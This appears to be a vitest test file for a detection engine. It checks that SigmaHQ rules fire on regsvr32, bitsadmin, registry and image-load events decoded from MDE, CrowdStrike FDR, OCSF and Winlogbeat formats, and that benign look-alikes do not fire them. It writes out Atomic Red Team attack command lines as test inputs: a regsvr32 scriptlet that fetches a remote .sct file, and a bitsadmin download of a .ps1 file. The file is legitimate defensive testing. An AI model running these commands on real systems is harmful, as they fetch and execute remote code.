// The seed's two Atomic command lines (regsvr32 scriptlet, bitsadmin transfer) as each vendor
// format writes them fire the same SigmaHQ rules as their Sysmon form, decoded from the wire
// shape through decodeRecord (so detection, normalization and the format's field mapping all
// take part); benign look-alikes fire none of them. A registry rule checks the hives are read as
// Sigma spells them, image_load rules that each format's module loads reach them, registry_add /
// registry_delete rules that FDR's key events do.
import {readdirSync} from 'node:fs';
import {join} from 'node:path';
import {beforeAll, describe, expect, it} from 'vitest';
import {decodeRecord, type DecodedEvent} from '../../../source/core/formats/index.js';
import {formatLoadReport, loadRules, type LoadReport, type RuleEngine} from '../../../source/core/rules/index.js';
import {csEvent, csProcess} from '../../fixtures/formats/cs-fdr.js';
import {initiating, mdeMessage, mdeRecord} from '../../fixtures/formats/mde.js';
import {ocsfEvent, ocsfProc} from '../../fixtures/formats/ocsf.js';
import {sysmon1Data, winlogbeat8} from '../../fixtures/formats/winlogbeat.js';
import {sigmaCorpus} from '../../helpers/sigma-corpus.js';
import {only} from '../../helpers/lists.js';

const corpus = sigmaCorpus();
let engine: RuleEngine;
let report: LoadReport;

const CMD = 'C:\\Windows\\System32\\cmd.exe';
const REGSVR32 = 'C:\\Windows\\System32\\regsvr32.exe';
const BITSADMIN = 'C:\\Windows\\System32\\bitsadmin.exe';
const T1218_010 =
	'regsvr32.exe /s /u /i:https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.010/src/RegSvr32.sct scrobj.dll';
const T1197 =
	'bitsadmin.exe /transfer /Download /priority Foreground https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md %temp%\\bitsadmin1_flag.ps1';

/** A process creation of `image` with `cmdline`, started by cmd.exe, as each format's wire message. */
type Shape = (image: string, cmdline: string) => string;

const basename = (p: string) => p.slice(p.lastIndexOf('\\') + 1);

const SHAPES: Record<string, Shape> = {
	mde: (image, cmdline) =>
		mdeMessage(
			mdeRecord('DeviceProcessEvents', {
				ActionType: 'ProcessCreated',
				FileName: basename(image),
				FolderPath: image.toLowerCase(),
				ProcessCommandLine: cmdline,
				ProcessId: 4200,
				AccountDomain: 'corp',
				AccountName: 'alice',
				ProcessVersionInfoOriginalFileName: basename(image).toUpperCase(),
				...initiating({file: 'cmd.exe', folder: CMD.toLowerCase(), cmd: `cmd.exe /c "${cmdline}"`, pid: 4100}),
			}),
		),
	'cs-fdr': (image, cmdline) =>
		JSON.stringify(
			csEvent(
				'ProcessRollup2',
				csProcess({
					image: image.replace('C:\\', '\\Device\\HarddiskVolume3\\'),
					cmdline,
					upid: '38612316301',
					pid: 4200,
					parentUpid: '38612316270',
					parent: 'cmd.exe',
				}),
			),
		),
	ocsf: (image, cmdline) => {
		const parent = ocsfProc({path: CMD, cmd: `cmd.exe /c "${cmdline}"`, pid: 4100, uid: 'p-4100'});
		const child = ocsfProc({path: image, cmd: cmdline, pid: 4200, uid: 'p-4200'});
		return JSON.stringify(ocsfEvent(1007, 1, {actor: {process: parent}, process: {...child, parent_process: parent}}));
	},
	// Winlogbeat 8's raw output is read by the Sysmon decoder (format sysmon).
	winlogbeat: (image, cmdline) =>
		JSON.stringify(
			winlogbeat8('Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', 1, sysmon1Data(image, cmdline)),
		),
};

/** The format label each shape decodes to. */
const FORMAT_OF: Record<string, string> = {winlogbeat: 'sysmon'};

function decoded(shape: Shape, image: string, cmdline: string): DecodedEvent {
	return only(decodeRecord({value: shape(image, cmdline), receivedAt: 1}));
}

const REGSVR32_RULES = ['867356ee-9352-41c9-a8f2-1be690d78216', 'b236190c-1c61-41e9-84b3-3fe03f6d76b0'];
const BITSADMIN_RULES = [
	'd059842b-6b9d-4ed1-b5c3-5b89143c6ede',
	'5b80a791-ad9b-4b75-bcc1-ad4e1e89c200',
	'2ddef153-167b-4e89-86b6-757a9e65dcac',
];
const BUILTIN = ['ad5c66a0-25b4-4970-bf2c-a9f5ff38ec04', '4ed0461c-2bab-406e-ad9a-1d453e1aebb7'];

describe.skipIf(!corpus.root)('SigmaHQ regsvr32 and bitsadmin rules on each vendor format', () => {
	beforeAll(() => {
		const dir = join(corpus.root!, 'windows', 'process_creation');
		const files = readdirSync(dir)
			.filter(f => /^proc_creation_win_(regsvr32|bitsadmin)_/.test(f))
			.map(f => join(dir, f));
		({engine, report} = loadRules(files));
	});

	it('the load report says, per format, which rule fields it cannot supply', () => {
		// MDE has the PE's original file name; FDR's ProcessRollup2 has neither it nor the parent's command line.
		expect(report.fieldGaps.mde.applicable).toBe(report.loaded);
		expect(report.fieldGaps.mde.fields).not.toHaveProperty('OriginalFileName');
		expect(report.fieldGaps['cs-fdr'].fields).toHaveProperty('OriginalFileName');
		const text = formatLoadReport(report);
		expect(text).toMatch(/^Microsoft Defender for Endpoint \(mde\): \d+ rules apply; /m);
		expect(text).toMatch(
			/^CrowdStrike FDR \(cs-fdr\): \d+ rules apply; \d+ name fields it cannot supply \(.*OriginalFileName/m,
		);
		expect(text).not.toMatch(/^Rules naming fields/m);
		const fdr = formatLoadReport(report, {format: 'cs-fdr'});
		expect(fdr).toMatch(/^Rules naming fields cs-fdr cannot supply \(\d+\):$/m);
		expect(fdr).toMatch(
			/^ {2}.*proc_creation_win_regsvr32_network_pattern\.yml: .* \(867356ee-[^)]+\): .*OriginalFileName/m,
		);
	});

	for (const [format, shape] of Object.entries(SHAPES)) {
		it(`${format}: T1218.010 hits the regsvr32 rules and the built-in`, () => {
			const ev = decoded(shape, REGSVR32, T1218_010);
			expect(ev.format).toBe(FORMAT_OF[format] ?? format);
			const ids = engine.evaluate(ev).map(h => h.id);
			for (const id of [...REGSVR32_RULES, BUILTIN[0]!]) expect(ids).toContain(id);
		});

		it(`${format}: T1197 hits the bitsadmin download rules and the built-in`, () => {
			const hits = engine.evaluate(decoded(shape, BITSADMIN, T1197));
			const ids = hits.map(h => h.id);
			for (const id of [...BITSADMIN_RULES, BUILTIN[1]!]) expect(ids).toContain(id);
			const download = hits.find(h => h.id === 'd059842b-6b9d-4ed1-b5c3-5b89143c6ede')!;
			const cl = download.fields.find(f => f.field === 'CommandLine')!;
			expect(cl.spans.map(([s, e]) => cl.value.slice(s, e).toLowerCase())).toContain(' /transfer ');
		});

		it(`${format}: benign regsvr32 and bitsadmin use hits none of those rules`, () => {
			const all = [...REGSVR32_RULES, ...BITSADMIN_RULES, ...BUILTIN];
			const benign = [
				decoded(
					shape,
					REGSVR32,
					'regsvr32.exe /s "C:\\Program Files\\Common Files\\microsoft shared\\ink\\tiptsf.dll"',
				),
				decoded(shape, BITSADMIN, 'bitsadmin.exe /list /allusers'),
				decoded(shape, 'C:\\Windows\\System32\\svchost.exe', 'svchost.exe -k netsvcs -p -s BITS'),
			];
			for (const ev of benign) expect(engine.evaluate(ev).filter(h => all.includes(h.id))).toEqual([]);
		});
	}
});

// A service ImagePath set under a suspicious folder, as each vendor spells the key: the rule tests
// `TargetObject|startswith: 'HKLM\System\CurrentControlSet\Services\'`, so it fires only when the
// hive and the control set are read in Sigma's spelling.
const SERVICE_RULE = 'a07f0359-4c90-4dc4-a681-8ffea40b4f47';
const REGISTRY_SHAPES: Record<string, (data: string) => string> = {
	mde: data =>
		mdeMessage(
			mdeRecord('DeviceRegistryEvents', {
				ActionType: 'RegistryValueSet',
				RegistryKey: 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\updater',
				RegistryValueName: 'ImagePath',
				RegistryValueData: data,
				...initiating({file: 'sc.exe', folder: 'c:\\windows\\system32\\sc.exe', pid: 5300}),
			}),
		),
	'cs-fdr': data =>
		JSON.stringify(
			csEvent('RegGenericValueUpdate', {
				RegObjectName: '\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\updater',
				RegValueName: 'ImagePath',
				RegStringValue: data,
				RegOperationType: '1',
				ContextProcessId: '38612316270',
			}),
		),
	ocsf: data =>
		JSON.stringify(
			ocsfEvent(201002, 2, {
				actor: {process: ocsfProc({path: 'C:\\Windows\\System32\\sc.exe', pid: 5300, uid: 'p-5300'})},
				reg_value: {path: 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\updater', name: 'ImagePath', data},
			}),
		),
};

describe.skipIf(!corpus.root)('a SigmaHQ registry rule on each vendor format', () => {
	let registry: RuleEngine;
	beforeAll(() => {
		const file = join(
			corpus.root!,
			'windows',
			'registry',
			'registry_set',
			'registry_set_creation_service_susp_folder.yml',
		);
		registry = loadRules([file], {builtin: false}).engine;
	});

	for (const [format, shape] of Object.entries(REGISTRY_SHAPES)) {
		it(`${format}: a service ImagePath under \\Users\\Public\\ hits it, one under System32 does not`, () => {
			const bad = only(decodeRecord({value: shape('C:\\Users\\Public\\updater.exe'), receivedAt: 1}));
			expect(bad.format).toBe(format);
			const hit = registry.evaluate(bad).find(h => h.id === SERVICE_RULE);
			expect(hit).toBeDefined();
			const target = hit!.fields.find(f => f.field === 'TargetObject')!;
			expect(target.value).toBe('HKLM\\SYSTEM\\CurrentControlSet\\Services\\updater\\ImagePath');
			const good = only(decodeRecord({value: shape('C:\\Windows\\System32\\updater.exe'), receivedAt: 1}));
			expect(registry.evaluate(good)).toEqual([]);
		});
	}
});

/** A module load of `module` into the process `image`, as each vendor format writes it. */
type LoadShape = (image: string, module: string) => string;
const IMAGE_LOAD_SHAPES: Record<string, LoadShape> = {
	mde: (image, module) =>
		mdeMessage(
			mdeRecord('DeviceImageLoadEvents', {
				ActionType: 'ImageLoaded',
				FileName: basename(module),
				FolderPath: module,
				...initiating({file: basename(image), folder: image.toLowerCase(), pid: 6100}),
			}),
		),
	'cs-fdr': (image, module) =>
		JSON.stringify(
			csEvent('ClassifiedModuleLoad', {
				ImageFileName: module.replace('C:\\', '\\Device\\HarddiskVolume3\\'),
				TargetImageFileName: image.replace('C:\\', '\\Device\\HarddiskVolume2\\'),
				SHA256HashData: 'e'.repeat(64),
				ContextProcessId: '38612316301',
			}),
		),
	ocsf: (image, module) =>
		JSON.stringify(
			ocsfEvent(1005, 1, {
				actor: {process: ocsfProc({path: image, pid: 6100, uid: 'p-6100'})},
				module: {file: {path: module, name: basename(module)}, load_type_id: 1},
			}),
		),
};
/** The vendor field each format's ImageLoaded is read from (named in the hit). */
const IMAGE_LOADED_SOURCE: Record<string, string> = {
	mde: 'FolderPath',
	'cs-fdr': 'ImageFileName',
	ocsf: 'module.file.path',
};

const AMSI_RULE = '6ec86d9e-912e-4726-91a2-209359b999b9';
const CLR_RULE = '4508a70e-97ef-4300-b62b-ff27992990ea';
const RUNDLL32 = 'C:\\Windows\\System32\\rundll32.exe';
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

describe.skipIf(!corpus.root)('SigmaHQ image_load rules on each vendor format', () => {
	let images: RuleEngine;
	let loaded: LoadReport;
	beforeAll(() => {
		const dir = join(corpus.root!, 'windows', 'image_load');
		const files = ['image_load_dll_amsi_suspicious_process.yml', 'image_load_susp_script_dotnet_clr_dll_load.yml'];
		({engine: images, report: loaded} = loadRules(
			files.map(f => join(dir, f)),
			{builtin: false},
		));
	});

	for (const [format, shape] of Object.entries(IMAGE_LOAD_SHAPES)) {
		const load = (image: string, module: string) => only(decodeRecord({value: shape(image, module), receivedAt: 1}));

		it(`${format}: both rules name only fields the format supplies`, () => {
			expect(loaded.fieldGaps[format as 'mde'].rulesWithUnsuppliedFields).toBe(0);
		});

		it(`${format}: amsi.dll loaded by rundll32 hits the AMSI rule, by powershell not`, () => {
			const ev = load(RUNDLL32, 'C:\\Windows\\System32\\amsi.dll');
			expect(ev.format).toBe(format);
			const hits = images.evaluate(ev);
			expect(hits.map(h => h.id)).toEqual([AMSI_RULE]);
			const loadedField = hits[0]!.fields.find(f => f.field === 'ImageLoaded')!;
			expect(loadedField.source).toBe(IMAGE_LOADED_SOURCE[format]);
			expect(loadedField.value).toBe('C:\\Windows\\System32\\amsi.dll');
			expect(hits[0]!.fields.find(f => f.field === 'Image')?.value.toLowerCase()).toBe(RUNDLL32.toLowerCase());
			expect(images.evaluate(load(POWERSHELL, 'C:\\Windows\\System32\\amsi.dll'))).toEqual([]);
		});

		it(`${format}: the CLR loaded by regsvr32 (a scriptlet running .NET) hits, scrobj.dll does not`, () => {
			const hits = images.evaluate(load(REGSVR32, 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll'));
			expect(hits.map(h => h.id)).toEqual([CLR_RULE]);
			expect(images.evaluate(load(REGSVR32, 'C:\\Windows\\System32\\scrobj.dll'))).toEqual([]);
		});
	}
});

// Registry key events of FDR, by RegOperationType: a key deleted (mstsc history cleared) and a
// key created (a disk cleanup handler added) reach the registry_delete / registry_add rules with
// Sysmon's EventType, and the same operations on other keys do not.
describe.skipIf(!corpus.root)('SigmaHQ registry_add / registry_delete rules on FDR key events', () => {
	const MSTSC_RULE = '07bdd2f5-9c58-4f38-aec8-e101bb79ef8d';
	const CLEANUP_RULE = 'd4f4e0be-cf12-439f-9e25-4e2cdcf7df5a';
	let keys: RuleEngine;
	beforeAll(() => {
		const dir = join(corpus.root!, 'windows', 'registry');
		keys = loadRules(
			[
				join(dir, 'registry_delete', 'registry_delete_mstsc_history_cleared.yml'),
				join(dir, 'registry_add', 'registry_add_persistence_disk_cleanup_handler_entry.yml'),
			],
			{builtin: false},
		).engine;
	});
	const key = (name: string, object: string, op: string, value?: string) =>
		only(
			decodeRecord({
				value: JSON.stringify(
					csEvent(name, {
						RegObjectName: object,
						...(value ? {RegValueName: value} : {}),
						RegOperationType: op,
						ContextProcessId: '38612316270',
						ContextBaseFileName: 'reg.exe',
					}),
				),
				receivedAt: 1,
			}),
		);
	const USER = '\\REGISTRY\\USER\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Terminal Server Client';
	const CACHES = '\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\VolumeCaches';

	it('a Terminal Server Client server key deleted hits the mstsc rule, one created does not', () => {
		const deleted = key('RegGenericKeyUpdate', `${USER}\\Servers\\10.0.0.5`, '0');
		expect(deleted.category).toBe('Registry Key Delete');
		const hit = keys.evaluate(deleted).find(h => h.id === MSTSC_RULE);
		expect(hit?.fields.find(f => f.field === 'EventType')?.value).toBe('DeleteKey');
		expect(keys.evaluate(key('RegGenericKeyUpdate', `${USER}\\Servers\\10.0.0.5`, '27'))).toEqual([]);
	});

	it('an MRU value deleted hits the mstsc rule, one set does not', () => {
		const deleted = key('RegGenericValueUpdate', `${USER}\\Default`, '2', 'MRU0');
		expect(keys.evaluate(deleted).map(h => h.id)).toEqual([MSTSC_RULE]);
		expect(keys.evaluate(key('RegGenericValueUpdate', `${USER}\\Default`, '1', 'MRU0'))).toEqual([]);
	});

	it('a new VolumeCaches handler key hits the disk cleanup rule, a default one and a deletion do not', () => {
		const created = key('AsepKeyUpdate', `${CACHES}\\Evil`, '27');
		const hit = keys.evaluate(created).find(h => h.id === CLEANUP_RULE);
		expect(hit?.fields.find(f => f.field === 'TargetObject')?.value).toBe(
			'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\VolumeCaches\\Evil',
		);
		expect(keys.evaluate(key('AsepKeyUpdate', `${CACHES}\\BranchCache`, '27'))).toEqual([]);
		expect(keys.evaluate(key('AsepKeyUpdate', `${CACHES}\\Evil`, '0'))).toEqual([]);
	});
});
